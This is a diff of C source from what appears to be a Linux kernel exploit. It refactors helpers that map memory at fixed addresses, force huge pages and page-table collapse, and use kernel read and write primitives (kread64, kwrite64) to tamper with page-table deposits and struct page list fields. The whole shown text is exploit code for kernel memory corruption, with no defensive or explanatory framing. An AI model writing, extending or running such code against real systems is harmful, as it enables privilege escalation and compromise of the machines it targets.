@@ -10,49 +10,16 @@
 #include <unistd.h>
 
 #include "attack.h"
+#include "deposit.h"
 #include "list.h"
 #include "objects.h"
 
-#define HUGE_PART	0x56
 #define TABLE_PART	0x57
 #define SHARED_PART	0x58
 #define HOLE		9	/* page of the huge one, or entry of a table */
 #define COLLAPSE	25	/* MADV_COLLAPSE, which C libraries may not have */
 #define TRIES		10
 #define PATIENCE	1000	/* times 10 ms */
-
-struct huge {
-	volatile char *at;
-	uint64_t field;		/* where the struct page of its deposit is said */
-	uint64_t deposit;
-};
-
-static volatile char *room(int part, uint64_t size)
-{
-	char *at = mmap((void *)user_room(part), size, PROT_READ | PROT_WRITE,
-			MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE | MAP_FIXED_NOREPLACE, -1, 0);
-
-	if (at == MAP_FAILED)
-		return NULL;
-	madvise(at, size, MADV_DONTFORK);
-	return at;
-}
-
-static bool make_huge(struct huge *huge)
-{
-	struct slot pmd;
-
-	huge->at = room(HUGE_PART, PMD_SIZE);
-	if (!huge->at)
-		return false;
-	madvise((void *)huge->at, PMD_SIZE, MADV_HUGEPAGE);
-	huge->at[0] = 1;
-	if (kwalk((uint64_t)huge->at, LEAF, 0, &pmd) || pmd.level != LEVEL_PMD)
-		return false;
-	huge->field = page_of(pmd.slot) + TABLE_DEPOSIT;
-	huge->deposit = kread64(huge->field);
-	return huge->deposit;
-}
 
 /* A table that is in use becomes a deposit again. */
 static bool collapse(volatile char *at)
@@ -63,14 +30,6 @@ static bool collapse(volatile char *at)
 		if (!madvise((void *)at, PMD_SIZE, COLLAPSE))
 			return true;
 	return false;
-}
-
-/* A list of one. */
-static int close_list(uint64_t page)
-{
-	int err = kwrite64(page + PAGE_LRU, page + PAGE_LRU);
-
-	return err ?: kwrite64(page + PAGE_LRU + 8, page + PAGE_LRU);
 }
 
 static int link_two(uint64_t page, uint64_t other)
@@ -242,8 +201,8 @@ static bool make_table(struct twice *twice)
 {
 	struct slot slot;
 
-	twice->as_pages = room(TABLE_PART, PMD_SIZE);
-	twice->as_tables = room(SHARED_PART, 2 * PUD_SIZE);
+	twice->as_pages = attack_room(TABLE_PART, PMD_SIZE);
+	twice->as_tables = attack_room(SHARED_PART, 2 * PUD_SIZE);
 	if (!twice->as_pages || !twice->as_tables)
 		return false;
 	madvise((void *)twice->as_tables, 2 * PUD_SIZE, MADV_NOHUGEPAGE);
